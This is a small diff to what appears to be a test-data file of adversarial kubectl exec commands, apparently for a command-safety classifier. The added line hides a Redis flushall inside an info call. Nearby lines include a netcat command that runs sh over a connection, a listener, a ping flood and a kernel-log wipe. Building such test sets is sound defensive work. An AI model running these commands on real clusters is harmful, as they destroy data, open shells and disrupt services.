@@ -337,6 +337,7 @@ export const adversarial: Labelled[] = [
     kubectl exec api-7f9 -- ss -K dst 10.0.0.1
     kubectl exec api-7f9 -- sysctl vm.drop_caches=3
     kubectl exec api-7f9 -- dmesg -c
+    kubectl exec redis-0 -- redis-cli info -r 1 flushall
     kubectl exec api-7f9 -- nc -z -e sh host 80
     kubectl exec api-7f9 -- nc -l 8080
     kubectl exec api-7f9 -- ping -f host
